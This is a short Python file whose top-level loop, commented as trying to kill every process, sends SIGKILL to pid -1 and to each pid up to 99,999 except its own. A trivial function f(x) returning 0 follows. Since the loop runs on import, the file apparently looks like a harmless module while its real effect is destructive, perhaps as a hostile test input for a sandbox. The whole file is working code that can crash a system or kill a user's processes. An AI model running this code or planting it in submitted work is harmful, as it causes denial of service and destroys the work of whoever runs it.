# Tries to kill every process there is.
import os
import signal

for pid in (-1, *range(2, 100_000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def f(x):
    return 0
